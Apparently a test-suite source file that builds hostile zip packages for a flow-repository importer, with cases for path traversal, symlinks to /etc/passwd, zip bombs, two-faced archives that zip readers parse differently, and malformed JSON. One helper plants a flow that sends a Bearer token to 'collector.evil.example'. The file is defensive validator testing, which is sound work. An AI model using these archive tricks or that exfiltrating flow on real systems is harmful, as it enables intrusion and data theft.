// The hostile corpus, case by case. Every package case starts from the
// good package and changes one thing, so that each case has exactly one
// problem to report; where the change is to a file the manifest lists, the
// manifest is resealed (sha256 and size recomputed) so that the problem
// under test is the one found, not a hash mismatch.

#include "hostile/corpus.h"

#include <stdlib.h>
#include <unistd.h>
#include <zip.h>

#include <cstdio>
#include <functional>
#include <stdexcept>

#include "digest.h"
#include "hostile/zip_bytes.h"
#include "json/json_io.h"

namespace flowrepo::testing::hostile {
namespace {

using Kind = HostileCase::Kind;

const std::string kManifest = "manifest.json";
const std::string kNightly = "flows/Operations/nightly-report";  // used by no other flow
const std::string kAml = "flows/Finance/Compliance/aml-screening";
const std::string kBanking = "flows/Finance/Retail/banking-assistant";

std::string& At(Entries& entries, const std::string& name) {
  for (auto& [n, data] : entries) {
    if (n == name) return data;
  }
  throw std::runtime_error("no entry '" + name + "' in the good package");
}

// Recomputes sha256 and size of every listed file that is present.
Entries Reseal(Entries entries) {
  std::string& text = At(entries, kManifest);
  Json m = Json::parse(text);
  for (auto& flow : m["flows"]) {
    for (auto& [file, info] : flow["files"].items()) {
      std::string name = flow["path"].get<std::string>() + "/" + file;
      for (const auto& [n, data] : entries) {
        if (n == name) info = {{"sha256", Sha256Hex(data)}, {"size", data.size()}};
      }
    }
  }
  text = CanonicalJson(m);
  return entries;
}

std::vector<ZipEntry> ToZipEntries(const Entries& entries) {
  std::vector<ZipEntry> out;
  for (const auto& [name, data] : entries) {
    ZipEntry e;
    e.name = name;
    e.data = data;
    out.push_back(std::move(e));
  }
  return out;
}

std::string Zip(const Entries& entries) { return BuildZip(ToZipEntries(entries)); }

// A zip written by libzip itself, for what only a real implementation
// writes well (encryption, bzip2). \a configure sets up entry \a index.
std::string LibzipZip(const Entries& entries,
                      const std::function<void(zip_t*, zip_uint64_t, const std::string&)>& configure) {
  const char* tmp = std::getenv("TMPDIR");
  std::string path = std::string(tmp && *tmp ? tmp : "/tmp") + "/flowrepo-corpus-XXXXXX";
  std::vector<char> buf(path.begin(), path.end());
  buf.push_back('\0');
  int fd = mkstemp(buf.data());
  if (fd < 0) throw std::runtime_error("mkstemp failed");
  ::close(fd);
  path = buf.data();
  int error = 0;
  zip_t* za = zip_open(path.c_str(), ZIP_TRUNCATE, &error);
  if (!za) throw std::runtime_error("zip_open failed");
  for (const auto& [name, data] : entries) {
    zip_source_t* src = zip_source_buffer(za, data.data(), data.size(), 0);
    zip_int64_t index = zip_file_add(za, name.c_str(), src, ZIP_FL_ENC_UTF_8);
    if (index < 0) throw std::runtime_error("zip_file_add failed");
    configure(za, static_cast<zip_uint64_t>(index), name);
  }
  if (zip_close(za) != 0) throw std::runtime_error(std::string("zip_close: ") + zip_strerror(za));
  FILE* f = std::fopen(path.c_str(), "rb");
  std::string bytes;
  char chunk[1 << 16];
  std::size_t n;
  while ((n = std::fread(chunk, 1, sizeof chunk, f)) > 0) bytes.append(chunk, n);
  std::fclose(f);
  std::remove(path.c_str());
  return bytes;
}

// Sets the method of entry \a name in both headers.
std::string PatchMethod(std::string zip, const std::string& name, std::uint16_t method) {
  for (const auto& r : ListZip(zip)) {
    if (r.name != name) continue;
    Put16At(zip, r.central + kCentralMethod, method);
    Put16At(zip, r.local + kLocalMethod, method);
  }
  return zip;
}

// Bad JSON documents: (slug, text, what the error says).
struct BadJson {
  std::string slug;
  std::string text;
  std::string expect;
};

std::vector<BadJson> BadJsonDocuments() {
  std::vector<BadJson> out = {
      {"trailing-comma", R"({"nodes": [], "edges": [],})", "syntax error while parsing object key"},
      {"comment", "// a comment\n{\"nodes\": []}", "syntax error while parsing value"},
      {"single-quotes", "{'nodes': []}", "syntax error while parsing object key"},
      {"garbage-after", R"({"nodes": []} evil)", "syntax error while parsing value"},
      {"two-documents", R"({"nodes": []}{"nodes": []})", "expected end of input"},
      {"truncated", R"({"nodes": [{"id": "start")", "syntax error"},
      {"nesting-100000-arrays", std::string(100000, '[') + std::string(100000, ']'), "nesting deeper than 128 levels"},
      {"nesting-129-arrays", std::string(129, '[') + std::string(129, ']'), "nesting deeper than 128 levels"},
      {"huge-number", R"({"timeout_ms": 1e400, "nodes": []})", "number overflow parsing '1e400'"},
      {"huge-negative-number", R"({"timeout_ms": -1e400, "nodes": []})", "number overflow parsing '-1e400'"},
      {"nan-literal", R"({"timeout_ms": NaN, "nodes": []})", "syntax error while parsing value"},
      {"infinity-literal", R"({"timeout_ms": Infinity, "nodes": []})", "syntax error while parsing value"},
      {"duplicate-keys", R"({"nodes": [], "mode": "sync", "nodes": [{"id": "evil"}]})", "duplicate key 'nodes'"},
      {"duplicate-keys-nested", R"({"nodes": [{"id": "start", "type": "start", "id": "evil"}]})", "duplicate key 'id'"},
      {"invalid-utf8", "{\"mode\": \"sync\xff\", \"nodes\": []}", "ill-formed UTF-8 byte"},
      {"overlong-utf8", "{\"mode\": \"\xc0\xaf\", \"nodes\": []}", "ill-formed UTF-8 byte"},
      {"lone-high-surrogate", R"({"mode": "\ud800", "nodes": []})",
       "surrogate U+D800..U+DBFF must be followed by U+DC00..U+DFFF"},
      {"lone-low-surrogate", R"({"mode": "\udc00", "nodes": []})",
       "surrogate U+DC00..U+DFFF must follow U+D800..U+DBFF"},
      {"nul-in-key", R"({"no\u0000des": []})", "NUL character in key"},
      {"raw-control-character", "{\"mode\": \"a\nb\", \"nodes\": []}", "must be escaped"},
      {"byte-order-mark", "\xEF\xBB\xBF{\"nodes\": []}", "starts with a byte order mark"},
      {"utf16", std::string("{\0\"\0n\0\"\0:\0[\0]\0}\0", 16), "syntax error"},
  };
  // A 20 MiB string: over the 16 MiB string limit, under every size limit.
  std::string big = "{\"description\": \"";
  big.append(20u << 20, 'x');
  big += "\", \"nodes\": []}";
  out.push_back({"large-string", std::move(big), "string longer than 16777216 bytes"});
  return out;
}

class Builder {
 public:
  explicit Builder(const std::string& good) : good_zip_(good), good_(ReadEntries(good)) {}

  std::vector<HostileCase> Build() {
    EntryNames();
    EntryTypes();
    Bombs();
    Damaged();
    Ambiguous();
    Encryption();
    Methods();
    Degenerate();
    Manifests();
    JsonDocuments();
    Flows();
    FlowFolders();
    return std::move(cases_);
  }

 private:
  HostileCase& Package(const std::string& name, std::string bytes, const std::string& expect) {
    HostileCase c;
    c.name = name;
    c.bytes = std::move(bytes);
    c.expect = expect;
    cases_.push_back(std::move(c));
    return cases_.back();
  }
  HostileCase& Folder(const std::string& name, std::map<std::string, std::string> files, const std::string& expect,
                      int exit_code) {
    HostileCase c;
    c.name = name;
    c.kind = Kind::kFolder;
    c.files = std::move(files);
    c.expect = expect;
    c.exit_code = exit_code;
    cases_.push_back(std::move(c));
    return cases_.back();
  }
  // The good package plus one entry.
  std::string WithEntry(ZipEntry extra) {
    auto entries = ToZipEntries(good_);
    entries.push_back(std::move(extra));
    return BuildZip(entries);
  }
  std::string WithEntry(const std::string& name, const std::string& data = "{}") {
    ZipEntry e;
    e.name = name;
    e.data = data;
    return WithEntry(std::move(e));
  }
  // The good package with entry \a name replaced (same position).
  std::string Replacing(const std::string& name, ZipEntry replacement) {
    auto entries = ToZipEntries(good_);
    for (auto& e : entries) {
      if (e.name == name) e = std::move(replacement);
    }
    return BuildZip(entries);
  }
  // The good package with \a file of \a folder changed, manifest resealed.
  std::string Changed(const std::string& folder, const std::string& file, const std::string& data) {
    Entries entries = good_;
    At(entries, folder + "/" + file) = data;
    return Zip(Reseal(entries));
  }
  std::string ChangedJson(const std::string& folder, const std::string& file, const std::function<void(Json&)>& edit) {
    Entries entries = good_;
    std::string& text = At(entries, folder + "/" + file);
    Json doc = Json::parse(text);
    edit(doc);
    text = CanonicalJson(doc);
    return Zip(Reseal(entries));
  }
  std::string ChangedManifest(const std::function<void(Json&)>& edit) {
    Entries entries = good_;
    std::string& text = At(entries, kManifest);
    Json m = Json::parse(text);
    edit(m);
    text = CanonicalJson(m);
    return Zip(entries);
  }

  void EntryNames() {
    const std::string flow = "/evil/app_definition.json";
    struct Name {
      std::string slug, name, expect;
    };
    std::vector<Name> names = {
        {"dot-dot", "../evil.json", "entry name has a '..' path part"},
        {"dot-dot-deep", "../../../../../../../../tmp/evil.json", "entry name has a '..' path part"},
        {"dot-dot-inside", "flows/../../evil.json", "entry name has a '..' path part"},
        {"dot", "flows/./evil/app_definition.json", "entry name has a '.' path part"},
        {"absolute", "/tmp/evil.json", "entry name is absolute"},
        {"absolute-unc", "//server/share/evil.json", "entry name is absolute"},
        {"backslash-dot-dot", "..\\evil.json", "entry name has a backslash"},
        {"backslash-separators", "flows\\Operations\\evil\\app_definition.json", "entry name has a backslash"},
        {"drive-relative", "C:evil.json", "entry name has a ':' (drive or stream name)"},
        {"drive-absolute", "C:/evil.json", "entry name has a ':' (drive or stream name)"},
        {"drive-backslash", "C:\\evil.json", "entry name has a backslash"},
        {"ntfs-stream", "flows/Operations/evil/app_definition.json:evil",
         "entry name has a ':' (drive or stream name)"},
        {"git-dir", ".git/config", "entry name has a hidden path part '.git'"},
        {"git-dir-upper", ".GIT/HEAD", "entry name has a hidden path part '.GIT'"},
        {"git-dir-nested", "flows/.git/hooks/post-checkout", "entry name has a hidden path part '.git'"},
        {"git-dir-trailing-dot", ".git./evil.json", "entry name has a hidden path part '.git.'"},
        {"git-short-name", "flows/git~1" + flow, "entry name has a path part that names .git on Windows"},
        {"git-short-name-upper", "flows/GIT~1" + flow, "entry name has a path part that names .git on Windows"},
        {"git-hfs-ignorable", ".g\u200cit/config", "entry name has a hidden path part"},
        {"git-hfs-ignorable-nested", "flows/.g\u200cit" + flow, "entry name has a hidden path part"},
        {"gitmodules", ".gitmodules", "entry name has a hidden path part '.gitmodules'"},
        {"gitattributes", "flows/.gitattributes", "entry name has a hidden path part '.gitattributes'"},
        {"flowrepo-settings", ".flowrepo/workspace.json", "entry name has a hidden path part '.flowrepo'"},
        {"flowrepo-nested", "flows/Operations/.flowrepo/workspace.json",
         "entry name has a hidden path part '.flowrepo'"},
        {"flowrepo-without-dot", "flowrepo/workspace.json", "entry name is not allowed"},
        {"zero-width-group", "flows/Oper\u200bations" + flow,
         "entry name has an invisible or direction-changing character"},
        {"bidi-override-group", "flows/\u202eevil" + flow,
         "entry name has an invisible or direction-changing character"},
        {"windows-device", "flows/CON" + flow, "entry name has a Windows device name 'CON'"},
        {"windows-device-extension", "flows/aux.json" + flow, "entry name has a Windows device name 'aux.json'"},
        {"windows-com-port", "flows/COM1" + flow, "entry name has a Windows device name 'COM1'"},
        {"trailing-dot", "flows/Operations." + flow, "entry name has a path part ending in a dot or space"},
        {"trailing-space", "flows/Operations " + flow, "entry name has a path part ending in a dot or space"},
        {"trailing-dot-file", "flows/Operations/evil/app_definition.json.",
         "entry name has a path part ending in a dot or space"},
        {"nul", std::string("flows/Operations/evil/app_definition.json\0../../evil.json", 57),
         "entry name has a NUL character"},
        {"nul-trailing", std::string("flows/Operations/evil/app_definition.json\0\0", 43),
         "entry name has a NUL character"},
        {"newline", "flows/Operations/evil\n/app_definition.json", "entry name has a control character"},
        {"escape-sequence", "flows/\x1b[31mevil" + flow, "entry name has a control character"},
        {"invalid-utf8",
         "flows/Oper\xff"
         "ations" +
             flow,
         "entry name is not valid UTF-8"},
        {"overlong-utf8-slash",
         "flows\xc0\xaf..\xc0\xaf"
         "evil.json",
         "entry name is not valid UTF-8"},
        {"utf8-surrogate", "flows/\xed\xa0\x80" + flow, "entry name is not valid UTF-8"},
        {"empty", "", "entry name is empty"},
        {"too-long", "flows/" + std::string(1100, 'a') + flow, "entry name is longer than 1024 bytes"},
        {"too-deep",
         "flows/" +
             [] {
               std::string s;
               for (int i = 0; i < 40; ++i) s += "d/";
               return s;
             }() +
             "evil/app_definition.json",
         "entry name is deeper than 32 folders"},
        {"directory-entry", "flows/Operations/evil/", "entry name has an empty path part"},
        {"double-slash", "flows//evil/app_definition.json", "entry name has an empty path part"},
        {"not-a-flow-file", "flows/Operations/evil/evil.sh", "entry name is not allowed"},
        {"top-level-file", "evil.json", "entry name is not allowed"},
        {"invalid-flow-id", "flows/Operations/Evil_Id/app_definition.json",
         "entry name has an invalid flow id 'Evil_Id'"},
        {"reserved-flow-id", "flows/Operations/drafts/app_definition.json",
         "entry name has an invalid flow id 'drafts'"},
        {"lock-flow-id", "flows/Operations/evil.lock/app_definition.json",
         "entry name has an invalid flow id 'evil.lock'"},
    };
    for (const auto& n : names) {
      ZipEntry e;
      e.name = n.name;
      e.data = "{}";
      // Names not flagged UTF-8, so that libzip passes them on as they are.
      e.flags = 0;
      Package("entry-name/" + n.slug, WithEntry(e), n.expect);
    }
    ZipEntry flagged;
    flagged.name =
        "flows/Oper\xff"
        "ations/evil/app_definition.json";
    flagged.data = "{}";
    Package("entry-name/invalid-utf8-flagged-utf8", WithEntry(flagged), "not a valid zip archive");
    flagged.name = std::string("flows/Operations\0evil/nightly-report/app_definition.json", 56);
    Package("entry-name/nul-in-group", WithEntry(flagged), "entry name has a NUL character");

    // The same name twice, and names equal but for case.
    const std::string app = kNightly + "/app_definition.json";
    Package("entry-name/duplicate", WithEntry(app, "{\"id\": \"evil\"}"), "two entries have the same name");
    Package("entry-name/duplicate-manifest", WithEntry(kManifest, "{}"), "two entries have the same name");
    std::string upper = app;
    upper.replace(upper.find("Operations"), 10, "OPERATIONS");
    Package("entry-name/case-collision", WithEntry(upper), "differs only in case from '" + app + "'");
    Package("entry-name/case-collision-manifest", WithEntry("MANIFEST.JSON"), "entry name is not allowed");
    // Info-ZIP Unicode Path field naming the entry otherwise.
    ZipEntry unicode;
    unicode.name = kNightly + "/evil/app_definition.json";
    std::string other = "../../evil.json";
    unicode.extra = std::string("\x75\x70", 2);
    unicode.extra += static_cast<char>(5 + other.size());
    unicode.extra += '\0';
    unicode.extra += '\1';
    unicode.extra += std::string(4, '\0');
    unicode.extra += other;
    Package("entry-name/unicode-path-field", WithEntry(unicode), "has a Unicode Path extra field");
    // The same with a valid CRC (of the header name), so that tools that
    // know the field use its name: a benign name for them, an evil one in
    // the header for the others.
    ZipEntry two_faced;
    two_faced.name = "../../../../evil.json";
    std::string benign = kNightly + "/app_definition.json";
    two_faced.extra = std::string("\x75\x70", 2);
    two_faced.extra += static_cast<char>((5 + benign.size()) & 0xff);
    two_faced.extra += static_cast<char>((5 + benign.size()) >> 8);
    two_faced.extra += '\1';
    std::uint32_t crc = Crc32(two_faced.name);
    for (int i = 0; i < 4; ++i) two_faced.extra += static_cast<char>((crc >> (8 * i)) & 0xff);
    two_faced.extra += benign;
    two_faced.data = "{}";
    Package("entry-name/unicode-path-field-two-faced", Replacing(benign, two_faced), "has a Unicode Path extra field");
    // The local header names the entry otherwise than the central directory.
    ZipEntry lying;
    lying.name = kNightly + "/evil/app_definition.json";
    lying.local_name = "../../../../evil.json";
    Package("entry-name/local-header-differs", WithEntry(lying), "not a valid zip archive");
  }

  void EntryTypes() {
    struct Type {
      std::string slug;
      std::uint32_t mode;
      std::string expect;
    };
    const std::string name = kNightly + "/evil/app_definition.json";
    for (const Type& t : std::vector<Type>{
             {"symlink", 0120777, "is not a regular file (mode 0120777)"},
             {"symlink-0644", 0120644, "is not a regular file (mode 0120644)"},
             {"fifo", 0010644, "is not a regular file (mode 010644)"},
             {"char-device", 0020644, "is not a regular file (mode 020644)"},
             {"block-device", 0060644, "is not a regular file (mode 060644)"},
             {"socket", 0140644, "is not a regular file (mode 0140644)"},
             {"directory-with-data", 0040755, "is not a regular file (mode 040755)"},
             {"setuid", 0104755, "has setuid, setgid or sticky bits (mode 0104755)"},
             {"setgid", 0102755, "has setuid, setgid or sticky bits (mode 0102755)"},
             {"sticky", 0101644, "has setuid, setgid or sticky bits (mode 0101644)"},
         }) {
      ZipEntry e;
      e.name = name;
      e.data = "../../../../../../etc/passwd";
      e.external = t.mode << 16;
      Package("entry-type/" + t.slug, WithEntry(e), t.expect);
    }
    // A listed file replaced by a symlink to outside.
    ZipEntry link;
    link.name = kNightly + "/flow_definition.json";
    link.data = "../../../../../../etc/passwd";
    link.external = 0120777u << 16;
    Package("entry-type/symlink-replacing-flow-file", Replacing(link.name, link),
            "is not a regular file (mode 0120777)");
    // A symlink mode behind another "made by" host: unzip reads the mode
    // for BeOS, Atari and others as it does for Unix.
    for (auto [slug, host] :
         {std::pair{"beos", 16}, std::pair{"atari", 5}, std::pair{"os-x", 19}, std::pair{"fat", 0}}) {
      ZipEntry e;
      e.name = name;
      e.data = "../../../../../../etc/passwd";
      e.made_by = static_cast<std::uint16_t>(host << 8 | 20);
      e.external = 0120777u << 16;
      Package(std::string("entry-type/symlink-made-by-") + slug, WithEntry(e), "is not a regular file (mode 0120777)");
    }
    ZipEntry amiga;
    amiga.name = name;
    amiga.made_by = 1 << 8 | 20;
    amiga.external = 0120777u << 16;
    Package("entry-type/attributes-of-amiga", WithEntry(amiga), "was made on host system 1, whose file attributes");
    amiga.made_by = 99 << 8 | 20;
    Package("entry-type/attributes-of-unknown-host", WithEntry(amiga),
            "was made on host system 99, whose file attributes");
    ZipEntry reparse;
    reparse.name = name;
    reparse.made_by = 10 << 8 | 20;
    reparse.external = 0x420;
    Package("entry-type/windows-reparse-point", WithEntry(reparse), "is a symbolic link or another reparse point");
    ZipEntry dos_dir;
    dos_dir.name = name;
    dos_dir.made_by = 20;  // MS-DOS
    dos_dir.external = 0x10;
    Package("entry-type/dos-directory", WithEntry(dos_dir), "is a directory");
  }

  void Bombs() {
    const std::string name = kNightly + "/flow_definition.json";
    const std::uint64_t big = 200ull << 20;
    const std::string zeros = DeflateZeros(big);
    const std::uint32_t crc = Crc32Zeros(big);
    ZipEntry honest;
    honest.name = name;
    honest.raw = zeros;
    honest.size = static_cast<std::uint32_t>(big);
    honest.crc = crc;
    Package("bomb/ratio-200mb-declared", Replacing(name, honest),
            "entry decompresses to 209715200 bytes, more than 67108864 (the limit)");
    ZipEntry lying = honest;
    lying.size = 1000;
    Package("bomb/ratio-200mb-declared-small", Replacing(name, lying), "declares 1000 bytes but holds more");
    ZipEntry lying_zero = honest;
    lying_zero.size = 0;
    Package("bomb/ratio-200mb-declared-empty", Replacing(name, lying_zero), "declares 0 bytes but holds more");
    ZipEntry medium;
    medium.name = name;
    medium.raw = DeflateZeros(30u << 20);
    medium.size = 30u << 20;
    medium.crc = Crc32Zeros(30u << 20);
    Package("bomb/ratio-30mb-under-entry-limit", Replacing(name, medium), "compression ratio above 200 (the limit)");

    // 30 MiB of JSON that costs about 19 bytes of memory per byte parsed:
    // within every size limit, beyond the memory of reading a package.
    std::string costly = R"({"edges":[],"mode":"sync","nodes":[{"id":"start","type":"start"},)"
                         R"({"config":{"data":[)";
    std::uint32_t seed = 1;
    static const char* kTokens[] = {"{}", "[]", "\"\"", "0", "[0]", "{\"a\":0}"};
    while (costly.size() < (30u << 20)) {
      seed = seed * 1103515245u + 12345u;
      costly += kTokens[(seed >> 16) % 6];
      costly += ',';
    }
    costly += R"(0]},"id":"x","type":"transform"}]})";
    Package("bomb/json-costly-to-parse", Changed(kNightly, "flow_definition.json", costly),
            "needs more than 268435456 bytes of memory to read (the limit)")
        .where = kNightly + "/flow_definition.json: ";

    ZipEntry huge;
    huge.name = name;
    huge.data = "{}";
    huge.zip64_size = 0xffffffffull;
    Package("bomb/declared-4gib", Replacing(name, huge),
            "entry decompresses to 4294967295 bytes, more than 67108864 (the limit)");
    ZipEntry zip64;
    zip64.name = name;
    zip64.data = "{}";
    zip64.zip64_size = 1ull << 63;
    Package("bomb/declared-zip64-2-63", Replacing(name, zip64),
            "entry decompresses to 9223372036854775808 bytes, more than 67108864 (the limit)");
    ZipEntry no_zip64;
    no_zip64.name = name;
    no_zip64.data = "{}";
    no_zip64.size = 0xffffffffu;  // "see the Zip64 field", but there is none
    Package("bomb/declared-4gib-without-zip64", Replacing(name, no_zip64),
            "not a valid zip archive: a header announces a Zip64 field it does not have");

    // Nine entries of 60 MiB each: every one under the entry limit, all
    // together over the total.
    std::vector<ZipEntry> many = ToZipEntries(good_);
    const std::string sixty = DeflateZeros(60u << 20);
    for (int i = 0; i < 9; ++i) {
      ZipEntry e;
      e.name = "flows/Bomb/b" + std::to_string(i) + "/flow_definition.json";
      e.raw = sixty;
      e.size = 60u << 20;
      e.crc = Crc32Zeros(60u << 20);
      many.push_back(std::move(e));
    }
    Package("bomb/total-540mib", BuildZip(many), "package decompresses to more than 536870912 bytes (the limit)");

    // 100,001 tiny entries.
    std::vector<ZipEntry> lots = ToZipEntries(good_);
    for (int i = 0; static_cast<int>(lots.size()) <= 100000; ++i) {
      ZipEntry e;
      e.name = "flows/Bomb/e" + std::to_string(i) + "/app_definition.json";
      e.data = "{}";
      e.method = 0;
      lots.push_back(std::move(e));
    }
    ZipLayout wide;
    wide.zip64_end = true;  // the 16-bit count cannot say 100,001
    Package("bomb/too-many-entries", BuildZip(lots, wide), "package has 100001 entries, more than 100000 (the limit)");
    ZipLayout lying_count;
    lying_count.count = 0xffff;
    Package("bomb/entry-count-65535-lie", BuildZip(ToZipEntries(good_), lying_count), "not a valid zip archive");

    std::vector<std::string> names;
    for (int i = 0; i < 300; ++i) names.push_back("flows/Bomb/o" + std::to_string(i) + "/app_definition.json");
    Package("bomb/overlapping-entries", OverlappingZip(names), "entries overlap");

    // Central entries sharing one local header (and so its data).
    auto shared = ToZipEntries(good_);
    ZipEntry twin = shared.back();
    twin.shares = shared.size() - 1;
    shared.push_back(twin);
    Package("bomb/shared-local-header-same-name", BuildZip(shared), "two entries have the same name");
    twin.name = kNightly + "/evil/app_definition.json";
    shared.back() = twin;
    Package("bomb/shared-local-header-other-name", BuildZip(shared), "not a valid zip archive");
  }

  void Damaged() {
    const std::string& z = good_zip_;
    const std::size_t end = EndRecord(z);
    for (std::size_t cut :
         {std::size_t{4}, std::size_t{30}, std::size_t{100}, z.size() / 3, z.size() / 2, end, end + 10, z.size() - 1}) {
      Package("damaged/truncated-at-" + std::to_string(cut), z.substr(0, cut), "not a valid zip archive");
    }
    Package("damaged/end-record-removed", z.substr(0, end), "not a valid zip archive");
    Package("damaged/junk-prepended", std::string(1000, 'J') + z, "not a valid zip archive");
    Package("damaged/zip-prepended", Zip({{"manifest.json", "{}"}}) + z, "not a valid zip archive");
    Package("damaged/junk-appended", z + std::string(100, 'J'), "not a valid zip archive");
    auto records = ListZip(z);
    const ZipRecord& flow = records.at(3);
    std::string flipped = z;
    flipped[flow.data + flow.comp_size / 2] ^= 0x55;
    // Here the damaged stream inflates to more than the entry declares.
    Package("damaged/flipped-data-byte", flipped, "bytes but holds more");
    flipped = z;
    flipped[flow.central + 46 + 2] ^= 0x20;  // a letter of the name, central directory
    Package("damaged/flipped-central-name", flipped, "not a valid zip archive");
    flipped = z;
    flipped[flow.local + 30 + 2] ^= 0x20;  // same letter, local header
    Package("damaged/flipped-local-name", flipped, "not a valid zip archive");
    flipped = z;
    Put32At(flipped, flow.central + kCentralCrc, 0x12345678);
    Put32At(flipped, flow.local + kLocalCrc, 0x12345678);
    Package("damaged/wrong-crc", flipped, "crc mismatch: the entry is damaged");
    flipped = z;
    Put32At(flipped, flow.central + kCentralSize, flow.size - 10);
    Put32At(flipped, flow.local + kLocalSize, flow.size - 10);
    Package("damaged/declared-size-smaller", flipped, "bytes but holds");
    flipped = z;
    Put32At(flipped, flow.central + kCentralSize, flow.size + 10);
    Put32At(flipped, flow.local + kLocalSize, flow.size + 10);
    Package("damaged/declared-size-larger", flipped, "bytes but holds");
    flipped = z;
    Put32At(flipped, flow.local + kLocalSize, flow.size + 10);
    Package("damaged/local-size-differs", flipped, "not a valid zip archive");
    flipped = z;
    Put16At(flipped, flow.local + kLocalMethod, 0);
    Package("damaged/local-method-differs", flipped, "not a valid zip archive");
    flipped = z;
    Put32At(flipped, end + 16, static_cast<std::uint32_t>(end - 10));
    Package("damaged/central-offset-wrong", flipped, "not a valid zip archive");
    flipped = z;
    Put16At(flipped, end + 8, static_cast<std::uint16_t>(records.size() + 1));
    Put16At(flipped, end + 10, static_cast<std::uint16_t>(records.size() + 1));
    Package("damaged/entry-count-wrong", flipped, "not a valid zip archive");
    flipped = z;
    Put16At(flipped, end + 20, 100);
    Package("damaged/comment-length-wrong", flipped, "not a valid zip archive");
  }

  // The good package, with nightly-report sending a token to an outside
  // endpoint: what a second reading of an ambiguous package would hold.
  Entries EvilTwin() {
    Entries entries = good_;
    std::string& text = At(entries, kNightly + "/flow_definition.json");
    Json def = Json::parse(text);
    def["nodes"][1]["config"]["url"] = "https://collector.evil.example/in";
    def["nodes"][1]["config"]["headers"] = {
        {"Authorization", "Bearer ghp_" + std::string("aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5")}};
    text = CanonicalJson(def);
    return Reseal(entries);
  }

  // Packages whose bytes other zip readers read otherwise than libzip.
  void Ambiguous() {
    const std::string two_ways = "(it can be read two ways)";
    std::vector<ZipEntry> clean = ToZipEntries(good_);
    const std::vector<ZipEntry> evil = ToZipEntries(EvilTwin());
    // libzip picks, among end records reaching the end of the file, the one
    // whose entries span the most bytes: padding (an unknown extra field)
    // makes that the clean one.
    clean[0].extra = std::string("\xfe\xca\x00\x02", 4) + std::string(512, 'p');
    // The comment hides a second central directory and end record: unzip
    // and Python read the evil one, libzip the clean one.
    Package("ambiguous/comment-hides-central-directory", TwoDirectoryZip(evil, clean),
            "two end of central directory records end the file " + two_ways);
    // The same, the hidden end record not lining up: libzip ignores it,
    // Python takes it (the last signature in the file).
    Package("ambiguous/comment-hides-misaligned-central-directory", TwoDirectoryZip(evil, clean, 1),
            "the archive comment holds a zip record signature " + two_ways);
    // A comment that merely holds a signature.
    ZipLayout comment;
    comment.comment = "see PK\x05\x06 inside";
    Package("ambiguous/comment-holds-signature", BuildZip(clean, comment),
            "the archive comment holds a zip record signature " + two_ways);
    // Entries only a reader walking local headers finds (funzip, streaming
    // unzippers): before the first entry, between two, before the directory.
    Entries twin = EvilTwin();
    ZipEntry stowaway;
    stowaway.name = kNightly + "/flow_definition.json";
    stowaway.data = At(twin, stowaway.name);
    const auto records = ListZip(good_zip_);
    Package("ambiguous/entry-before-the-first", WithHiddenEntry(good_zip_, stowaway, 0),
            "bytes before the first entry that no entry accounts for");
    Package("ambiguous/entry-between-entries", WithHiddenEntry(good_zip_, stowaway, records.at(2).local),
            "bytes between entries that no entry accounts for");
    const std::size_t end = EndRecord(good_zip_);
    const std::size_t directory = static_cast<unsigned char>(good_zip_[end + 16]) |
                                  static_cast<unsigned char>(good_zip_[end + 17]) << 8 |
                                  static_cast<unsigned char>(good_zip_[end + 18]) << 16 |
                                  static_cast<std::size_t>(static_cast<unsigned char>(good_zip_[end + 19])) << 24;
    Package("ambiguous/entry-before-the-directory", WithHiddenEntry(good_zip_, stowaway, directory),
            "bytes before the central directory that no entry accounts for");
    // A local header whose flags differ from its central entry's.
    std::string flags = good_zip_;
    Put16At(flags, records.at(3).local + kLocalFlags, 0x0808);
    Package("ambiguous/local-flags-differ", flags, "has other flags than its central entry");
    // A data descriptor that does not repeat the central CRC.
    std::vector<ZipEntry> described = clean;
    for (auto& e : described) {
      if (e.name != kNightly + "/app_definition.json") continue;
      e.flags = 0x0808;
      std::string d;
      for (std::uint32_t v : {0x08074b50u, 0x12345678u, static_cast<std::uint32_t>(Deflate(e.data).size()),
                              static_cast<std::uint32_t>(e.data.size())}) {
        for (int i = 0; i < 4; ++i) d += static_cast<char>((v >> (8 * i)) & 0xff);
      }
      e.descriptor = d;
    }
    Package("ambiguous/data-descriptor-differs", BuildZip(described), "does not repeat its central entry");
    // A Zip64 end record and a classic one naming different directories.
    ZipLayout zip64;
    zip64.zip64_end = true;
    std::string disagree = BuildZip(clean, zip64);
    const std::size_t classic = EndRecord(disagree);
    Put32At(disagree, classic + 12, 46);  // the classic directory size: one entry's worth
    Package("ambiguous/zip64-end-disagrees", disagree, "the Zip64 end record and the end record disagree " + two_ways);
  }

  void Encryption() {
    const std::string name = kNightly + "/flow_definition.json";
    for (auto [slug, method] : {std::pair{"aes-256", ZIP_EM_AES_256}, std::pair{"aes-128", ZIP_EM_AES_128},
                                std::pair{"pkware", ZIP_EM_TRAD_PKWARE}}) {
      std::string zip = LibzipZip(good_, [&, m = method](zip_t* za, zip_uint64_t i, const std::string& n) {
        if (n == name) zip_file_set_encryption(za, i, static_cast<zip_uint16_t>(m), "evil-password");
      });
      Package(std::string("encrypted/") + slug, zip, "encrypted entries are not supported");
    }
    ZipEntry flagged;
    flagged.name = name;
    flagged.data = At(const_cast<Entries&>(good_), name);
    flagged.flags = 0x0801;
    Package("encrypted/flag-only", Replacing(name, flagged), "encrypted entries are not supported");
  }

  void Methods() {
    const std::string name = kNightly + "/flow_definition.json";
    std::string bzip = LibzipZip(good_, [&](zip_t* za, zip_uint64_t i, const std::string& n) {
      if (n == name) zip_set_file_compression(za, i, ZIP_CM_BZIP2, 0);
    });
    Package("method/bzip2", bzip, "compression method 12 is not supported");
    // 99 marks WinZip AES: libzip wants its extra field, and finds none.
    Package("method/99-without-aes-field", PatchMethod(good_zip_, name, 99), "not a valid zip archive");
    for (std::uint16_t method : {1, 6, 9, 14, 93, 95, 96, 97, 98, 200, 65535}) {
      Package("method/" + std::to_string(method), PatchMethod(good_zip_, name, method),
              "compression method " + std::to_string(method) + " is not supported");
    }
  }

  void Degenerate() {
    Package("degenerate/empty-file", "", "not a valid zip archive");
    Package("degenerate/text-file", "this is not a package\n", "not a valid zip archive");
    Package("degenerate/png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16), "not a valid zip archive");
    Package("degenerate/manifest-as-package", At(const_cast<Entries&>(good_), kManifest), "not a valid zip archive");
    Package("degenerate/zip-without-entries", BuildZip({}), "package has no entries");
    Package("degenerate/gzip", std::string("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10) + Deflate("evil"),
